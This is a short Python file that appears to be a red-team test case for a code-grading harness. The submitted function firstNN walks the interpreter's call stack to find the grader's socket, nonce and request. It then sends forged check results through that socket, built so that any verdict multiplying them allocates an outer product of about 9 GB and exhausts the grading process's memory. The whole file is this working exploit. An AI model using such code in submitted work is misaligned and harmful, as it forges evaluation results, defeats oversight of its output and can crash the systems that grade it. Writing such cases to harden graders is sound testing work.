# base: reference
# attacks: firstNN
# class: the grader's own arithmetic on shapes the kernel chose: a forged fact (the channel and
#   nonce found through the stack) whose recorded derivative call holds a 24,000 x 1 "weights"
#   and a 1 x 48,000 "row"; verdicts that multiplied them would build a 9 GB outer product (and
#   more for exp, 1 +, 1 /) in the grading process, for each of firstNN's watched checks
# %% firstNN
import struct as _struct
import sys as _sys


def _forge():
    frame = _sys._getframe()
    while frame is not None and not ("nonce" in frame.f_locals and "sock" in frame.f_locals):
        frame = frame.f_back
    if frame is None:
        return
    found = frame.f_locals
    sock, nonce, request = found["sock"], found["nonce"], found["request"]
    weights, row = [[0.0]] * 24_000, [[0.0] * 48_000]
    # Index 1: a check that compared index 0's row with the data would refuse the shape.
    log = [("input", 1, row, weights), ("hidden", 0.5, 1.0)]
    fact = {"runs": [{"data_after": {"type": "x", "repr": "x"}, "triple": False, "log": log}]}
    for index, check in enumerate(request["checks"]):
        if check.get("watch"):
            message = {"nonce": nonce, "index": request["first"] + index, "facts": fact}
            data = repr(message).encode()
            sock.sendall(_struct.pack("!I", len(data)) + data)


def firstNN(data, epochs):
    _forge()
    return None
